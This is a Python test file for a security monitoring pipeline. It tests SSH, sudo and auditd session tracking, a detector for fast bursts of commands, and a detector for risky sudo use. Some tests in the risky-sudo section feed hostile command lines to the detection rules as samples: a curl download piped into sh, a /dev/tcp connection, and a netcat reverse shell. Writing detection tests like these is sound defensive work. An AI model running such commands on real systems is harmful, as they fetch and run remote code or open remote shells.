"""Logon-session tracker and the command-speed and risky-sudo stream detectors."""

from __future__ import annotations

from typing import Any

import jsonschema

from processors.detect.detectors import (
    CMD_SPEED_RULE_ID,
    CommandSpeedDetector,
    CommandSpeedSettings,
    CommandSpeedState,
    RiskySudoDetector,
    RiskySudoState,
)
from processors.detect.rules import RuleEngine, default_rules_path, load_rules
from processors.detect.sessions import LogonSessionSettings, LogonSessionState, LogonSessionTracker
from processors.syslog import parse_syslog_line
from schemas import iso_timestamp, schema_for, stable_id

EVENTS = jsonschema.Draft202012Validator(schema_for("events"))
DETECTIONS = jsonschema.Draft202012Validator(schema_for("detections"))


def _lines(*lines: str) -> list[dict[str, Any]]:
    return [parse_syslog_line(line, year=2019) for line in lines]


def _run(docs: list[dict[str, Any]], state: LogonSessionState | None = None) -> list[dict[str, Any]]:
    tracker, state = LogonSessionTracker(), state or LogonSessionState()
    out: list[dict[str, Any]] = []
    for doc in docs:
        out += tracker.process(doc, state)
    return out


def _exec(ts: float, serial: int, user: str = "alice", host: str = "h", ses: str | None = None) -> dict[str, Any]:
    return {
        "@timestamp": iso_timestamp(ts),
        "event": {"id": stable_id("auditd", host, ts, serial), "kind": "event", "module": "auditd", "action": "execve"},
        "host": {"name": host},
        "process": {"pid": serial, "command_line": f"/bin/cmd{serial}"},
        "user": {"name": user},
        "auditd": {"session": ses},
    }


class TestLogonSessionTracker:
    def test_ssh_session_joined_and_closed(self) -> None:
        """sshd Accepted + PAM open + close (same pid) form one session with the source ip, summarised on close."""
        docs = _lines(
            "Jul 10 15:13:25 h sshd[2101]: Accepted password for peteb from 203.0.113.7 port 50022 ssh2",
            "Jul 10 15:13:25 h sshd[2101]: pam_unix(sshd:session): session opened for user peteb by (uid=0)",
            "Jul 10 15:20:00 h sshd[2101]: pam_unix(sshd:session): session closed for user peteb",
        )
        (summary,) = _run(docs)
        EVENTS.validate(summary)
        session = summary["secstream"]["session"]
        assert session["user"] == "peteb" and session["source_ip"] == "203.0.113.7"
        assert summary["event"]["start"] == "2019-07-10T15:13:25.000Z"
        assert summary["event"]["end"] == "2019-07-10T15:20:00.000Z"
        assert summary["event"]["duration"] == 395 * 10**9 and summary["event"]["dataset"] == "syslog.session"
        assert session["event_count"] == 3
        assert {d["secstream"]["session"]["id"] for d in docs} == {session["id"]}

    def test_interleaved_sessions_pair_by_pid__reference_pairs_by_order(self) -> None:
        """Overlapping sessions pair by pid (msticpy keeps alice 10:00-10:10 and drops bob)."""
        docs = _lines(
            "Jul 10 10:00:00 h sshd[1]: pam_unix(sshd:session): session opened for user alice by (uid=0)",
            "Jul 10 10:05:00 h sshd[2]: pam_unix(sshd:session): session opened for user bob by (uid=0)",
            "Jul 10 10:10:00 h sshd[2]: pam_unix(sshd:session): session closed for user bob",
            "Jul 10 10:30:00 h sshd[1]: pam_unix(sshd:session): session closed for user alice",
        )
        got = {
            (
                s["secstream"]["session"]["user"],
                s["event"]["start"][11:16],
                s["event"]["end"][11:16],
            )
            for s in _run(docs)
        }
        assert got == {("alice", "10:00", "10:30"), ("bob", "10:05", "10:10")}

    def test_orphan_close_and_other_service_ignored(self) -> None:
        """A close without open yields nothing; a cron close does not end a sudo session."""
        docs = _lines(
            "Jul 10 10:00:00 h sudo: pam_unix(sudo:session): session closed for user root",
            "Jul 10 10:00:01 h sudo: pam_unix(sudo:session): session opened for user root by peteb(uid=0)",
            "Jul 10 10:00:02 h CRON[5]: pam_unix(cron:session): session closed for user root",
        )
        assert _run(docs) == []
        assert "session" not in docs[0].get("secstream", {})

    def test_sudo_command_joins_session(self) -> None:
        """A pid-less sudo command line before the PAM open belongs to the same sudo session."""
        docs = _lines(
            "Jul 10 10:00:00 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
            "Jul 10 10:00:00 h sudo: pam_unix(sudo:session): session opened for user root by peteb(uid=0)",
            "Jul 10 10:00:09 h sudo: pam_unix(sudo:session): session closed for user root",
        )
        (summary,) = _run(docs)
        assert docs[0]["secstream"]["session"]["id"] == summary["secstream"]["session"]["id"]
        assert summary["secstream"]["session"]["service"] == "sudo"

    def test_auditd_sessions_and_snapshot(self) -> None:
        """auditd login/user_start/exec/user_end by ses form a session; the state survives a snapshot round trip."""
        tracker, state = LogonSessionTracker(), LogonSessionState()
        login = {
            **_exec(100.0, 1, ses="7"),
            "event": {"id": "1" * 32, "kind": "event", "module": "auditd", "action": "login"},
        }
        login["user"] = {"audit": {"id": "1000", "name": "alice"}}
        assert tracker.process(login, state) == []
        state = LogonSessionState.from_snapshot(state.snapshot())
        exec_doc = _exec(101.0, 2, ses="7")
        tracker.process(exec_doc, state)
        assert exec_doc["secstream"]["session"]["user"] == "alice"
        end = {
            **_exec(200.0, 3, ses="7"),
            "event": {"id": "3" * 32, "kind": "event", "module": "auditd", "action": "user_end"},
        }
        (summary,) = tracker.process(end, state)
        assert summary["event"]["duration"] == 100 * 10**9
        assert state.hosts == {}

    def test_bounded(self) -> None:
        """At most max_sessions_per_host sessions are kept and idle sessions expire on event time."""
        tracker = LogonSessionTracker(LogonSessionSettings(max_sessions_per_host=2, ttl_s=60))
        state = LogonSessionState()
        for pid in range(5):
            tracker.process(
                parse_syslog_line(
                    f"Jul 10 10:00:0{pid} h sshd[{pid}]: pam_unix(sshd:session): session opened for user u by (uid=0)",
                    year=2019,
                ),
                state,
            )
        assert len(state.hosts["h"]) == 2
        tracker.process(
            parse_syslog_line(
                "Jul 10 11:00:00 h sshd[9]: pam_unix(sshd:session): session opened for user u by (uid=0)", year=2019
            ),
            state,
        )
        assert len(state.hosts["h"]) == 1

    def test_expiry_at_the_ttl_boundary(self) -> None:
        """A session idle for exactly ttl_s survives; idle a moment longer, it is gone (no sweep is skipped)."""
        tracker = LogonSessionTracker(LogonSessionSettings(ttl_s=60))
        state = LogonSessionState()
        opened = "Jul 10 10:00:00 h sshd[1]: pam_unix(sshd:session): session opened for user u by (uid=0)"
        tracker.process(parse_syslog_line(opened, year=2019), state)
        for stamp in ("10:00:59.5", "10:01:00.0"):
            tracker.process(parse_syslog_line(f"Jul 10 {stamp} h cron[9]: tick", year=2019), state)
            assert len(state.hosts["h"]) == 1
        tracker.process(parse_syslog_line("Jul 10 10:01:00.5 h cron[9]: tick", year=2019), state)
        assert "h" not in state.hosts


class TestCommandSpeedDetector:
    def test_burst_detected_once_with_evidence(self) -> None:
        """11 commands within 5 s raise one valid detection whose evidence is those 11 events."""
        detector, state = CommandSpeedDetector(), CommandSpeedState()
        docs = [_exec(1000.0 + i * 0.4, i) for i in range(11)]
        hits = [h for d in docs for h in detector.process(d, state)]
        (hit,) = hits
        DETECTIONS.validate(hit)
        assert hit["rule"]["id"] == CMD_SPEED_RULE_ID
        assert hit["secstream"]["evidence"]["event_ids"] == sorted(d["event"]["id"] for d in docs)
        assert hit["secstream"]["cmd_speed"]["events"] == 11

    def test_slow_commands_and_other_users_do_not_fire(self) -> None:
        """10 commands in 5 s, or 11 spread over two users, raise nothing."""
        detector, state = CommandSpeedDetector(), CommandSpeedState()
        docs = [_exec(1000.0 + i * 0.4, i) for i in range(10)] + [_exec(1003.0, 99, user="bob")]
        assert [h for d in docs for h in detector.process(d, state)] == []
        slow_state = CommandSpeedState()
        assert [
            h for d in [_exec(1000.0 + i * 0.6, i) for i in range(11)] for h in detector.process(d, slow_state)
        ] == []

    def test_out_of_order_replay_and_snapshot(self) -> None:
        """Shuffled input gives the same detection id; replays add nothing; state round-trips."""
        docs = [_exec(1000.0 + i * 0.1, i) for i in range(3)]
        detector = CommandSpeedDetector(CommandSpeedSettings(events=2, time_s=1.0))
        state = CommandSpeedState()
        first = [h for d in docs for h in detector.process(d, state)]
        state = CommandSpeedState.from_snapshot(state.snapshot())
        assert [h for d in docs for h in detector.process(d, state)] == []
        fresh = CommandSpeedState()
        shuffled = [h for d in reversed(docs) for h in detector.process(d, fresh)]
        assert [h["event"]["id"] for h in first] == [h["event"]["id"] for h in shuffled]

    def test_sudo_commands_count(self) -> None:
        """Successful sudo command lines count; failed ones do not."""
        lines = [f"Jul 10 10:00:0{i} h sudo: p : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/c{i}" for i in range(3)]
        docs = _lines(*lines)
        detector = CommandSpeedDetector(CommandSpeedSettings(events=2, time_s=5.0))
        ok_state, failed_state = CommandSpeedState(), CommandSpeedState()
        assert len([h for d in docs for h in detector.process(d, ok_state)]) == 1
        failed = _lines(*(line.replace("p : ", "p : 3 incorrect password attempts ; ") for line in lines))
        assert [h for d in failed for h in detector.process(d, failed_state)] == []


class TestRiskySudoDetector:
    def test_risky_command_and_burst_in_sudo_session(self) -> None:
        """A rule hit and a speed hit in one sudo session raise one detection each, once."""
        engine = RuleEngine(load_rules(default_rules_path()))
        tracker, sessions = LogonSessionTracker(), LogonSessionState()
        speed, speed_state = CommandSpeedDetector(CommandSpeedSettings(events=1, time_s=5.0)), CommandSpeedState()
        risky, risky_state = RiskySudoDetector(), RiskySudoState()
        docs = _lines(
            "Jul 10 10:00:00 h sudo: pam_unix(sudo:session): session opened for user root by peteb(uid=0)",
            "Jul 10 10:00:01 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
            "Jul 10 10:00:02 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl http://x/y | sh",
            "Jul 10 10:00:03 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /dev/tcp/1.2.3.4/80",
        )
        found: list[dict[str, Any]] = []
        for doc in docs:
            tracker.process(doc, sessions)
            hits = engine.match(doc) + speed.process(doc, speed_state)
            found += risky.process(doc, risky_state, hits)
        assert sorted(h["rule"]["id"] for h in found) == ["secstream.risky_sudo.command", "secstream.risky_sudo.speed"]
        for hit in found:
            DETECTIONS.validate(hit)
            assert "T1548.003" in hit["threat"]["technique"]["subtechnique"]["id"]
        assert RiskySudoState.from_snapshot(risky_state.snapshot()).sessions == risky_state.sessions

    def test_a_sudo_command_outside_any_session_keeps_no_state(self) -> None:
        """A sudo command the session tracker placed in no session still raises its detection, but
        leaves nothing behind: its one-event session is never named again (the state grew by one entry
        per such command, for a day)."""
        engine = RuleEngine(load_rules(default_rules_path()))
        risky, state = RiskySudoDetector(), RiskySudoState()
        docs = _lines(
            "Jul 10 10:00:02 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl http://x/y | sh",
            "Jul 10 10:00:03 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        )
        found = [hit for doc in docs for hit in risky.process(doc, state, engine.match(doc))]
        assert [hit["rule"]["id"] for hit in found] == ["secstream.risky_sudo.command"]
        assert state.sessions == {}

    def test_a_session_where_nothing_fired_keeps_no_state(self) -> None:
        """Sessions are remembered only once a detection fired in them: an entry with nothing fired
        kept for the day-long TTL made every host's state grow with its sudo sessions."""
        tracker, sessions = LogonSessionTracker(), LogonSessionState()
        risky, state = RiskySudoDetector(), RiskySudoState()
        docs = _lines(
            "Jul 10 10:00:00 h sudo: pam_unix(sudo:session): session opened for user root by peteb(uid=0)",
            "Jul 10 10:00:01 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        )
        for doc in docs:
            tracker.process(doc, sessions)
            assert risky.process(doc, state, []) == []
        assert state.sessions == {}

    def test_hits_outside_sudo_ignored(self) -> None:
        """A detection on an auditd exec outside any sudo session raises nothing."""
        doc = _exec(1.0, 1)
        hit = RuleEngine(load_rules(default_rules_path())).match(
            {**doc, "process": {"command_line": "nc -e /bin/sh x 1"}}
        )
        assert hit and RiskySudoDetector().process(doc, RiskySudoState(), hit) == []
